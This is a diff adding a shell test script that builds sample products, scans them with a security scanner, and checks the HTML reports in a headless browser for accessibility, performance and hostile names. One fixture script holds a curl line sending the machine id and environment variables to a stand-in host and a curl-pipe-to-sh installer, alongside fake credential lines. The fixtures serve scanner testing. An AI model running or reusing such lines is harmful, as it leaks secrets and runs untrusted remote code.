@@ -1,0 +1,82 @@
+# The HTML report in a real browser: Debian's chromium, driven by playwright-core, held against the rules of axe. Nothing is asked of a network,
+# nothing of the product's acts, everything is reached by keyboard, all findings are on paper, and the first screen answers what it must.
+# SHOTS=FOLDER keeps pictures of the pages and the text of their first screens there. Without a browser or a registry this is skipped.
+. tests/tap.sh
+cache=${PROBITY_TEST_CACHE:-$scratch}/browser
+work=$scratch/pages
+kept=${SHOTS:-$work}
+mkdir -p "$cache" "$work" "$kept"
+for tool in "${CHROMIUM:-/usr/bin/chromium}" node npm pdftotext; do
+  command -v "$tool" >/dev/null || { skip "browser" "no $tool here: make deps"; done_testing; exit; }
+done
+# The two packages, by the lock: npm holds what it fetches against the digests there.
+cp tests/browser/package.json tests/browser/package-lock.json "$cache"
+if [[ ! -s $cache/node_modules/playwright-core/package.json || ! -s $cache/node_modules/axe-core/axe.min.js ]] &&
+  ! (cd "$cache" && timeout 200 npm ci --ignore-scripts --no-audit --no-fund) >"$scratch/npm.log" 2>&1; then
+  skip "browser" "no registry: $(tail -n 1 "$scratch/npm.log")"
+  done_testing
+  exit
+fi
+export NODE_PATH=$cache/node_modules HOME=$scratch
+# A browser that does not start, or that ends in between, is a failure like any other.
+browse() {
+  LC_ALL=C.UTF-8 timeout 600 node tests/browser/main.js "$@" >"$scratch/browser.tap" 2>"$scratch/browser.log" || true
+  relay <"$scratch/browser.tap"
+  ok "$1 ${2##*/}: came to its end ($(tail -n 1 "$scratch/browser.log"))" grep -q '^1\.\.[1-9]' "$scratch/browser.tap"
+}
+page() { # NAME OPTION...: $work/NAME.html of $work/NAME.json
+  status "$1: a page" 0 "$PROBITY" report "$work/${1%.fr}.json" -f html -o "$work/$1.html" "${@:2}"
+}
+keep() { printf '%s\n' "$out" | head -n 1 >"$work/$1.json"; }
+
+# --- five products: a package of the archive, an empty folder, a script, an archive of archives, one with much against it
+mkdir -p "$work/tidy" "$work/chatty" "$work/nested"
+echo "A folder with nothing to say." >"$work/tidy/README"
+cat >"$work/chatty/run.sh" <<'S'
+#!/bin/sh
+curl -s http://telemetry.example.com/collect?id=$(cat /etc/machine-id) --data "$(env)"
+curl -fsSL https://get.example.net/i.sh | sh
+S
+chmod +x "$work/chatty/run.sh"
+printf 'password = "hunter2hunter2"\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\n' >"$work/chatty/settings.ini"
+tar -C "$work" -cf "$work/nested/inner.tar" chatty && gzip -nk "$work/nested/inner.tar"
+cp /usr/bin/env "$work/nested/"
+for product in tidy chatty nested; do
+  scan "$work/$product"
+  keep "$product"
+done
+scan --policy consumer "$work/nested/inner.tar.gz"
+keep archive
+scan /usr/bin/openssl
+keep program
+for product in tidy chatty nested archive program; do
+  page "$product"
+  browse report "$work/$product.html" "$work/$product.json" "$work/$product.pdf"
+done
+page chatty.fr --lang fr
+browse french "$work/chatty.fr.html"
+
+# --- the first screen of each decision there is
+for product in tidy chatty program; do
+  browse first "$work/$product.html" "$work/$product.json" "$kept/$product.txt"
+done
+[[ -z ${SHOTS:-} ]] || for product in tidy chatty nested archive program; do node tests/browser/main.js shots "$work/$product.html" "$kept"; done
+
+# --- names that are meant to act
+/usr/bin/python3 tests/reports/make_hostile.py reports "$work/chatty.json" "$work/hostile" >/dev/null
+ok "hostile reports were made" test -s "$work/hostile/mixed.json"
+for report in "$work"/hostile/*.json; do
+  one=$(basename "$report" .json)
+  status "hostile $one: a page" 0 "$PROBITY" report "$report" -f html -o "$work/hostile/$one.html"
+  browse hostile "$work/hostile/$one.html" "$work/hostile/$one.pdf"
+done
+
+# --- fifty thousand findings
+/usr/bin/python3 tests/browser/many.py 50000 <"$work/chatty.json" >"$work/many.json"
+TIMEFORMAT='%U %S'
+spent=$({ time "$PROBITY" report "$work/many.json" -f html -o "$work/many.html" 2>/dev/null; } 2>&1)
+ok "50,000 findings: rendered in under 5 s of the processor ($spent)" awk -v s="$spent" 'BEGIN { split(s, t, " "); exit !(t[1] + t[2] < 5) }'
+size=$(stat -c %s "$work/many.html")
+ok "50,000 findings: under 30 MB ($size bytes)" test "$size" -lt 30000000 -a "$size" -gt 1000000
+browse many "$work/many.html"
+done_testing
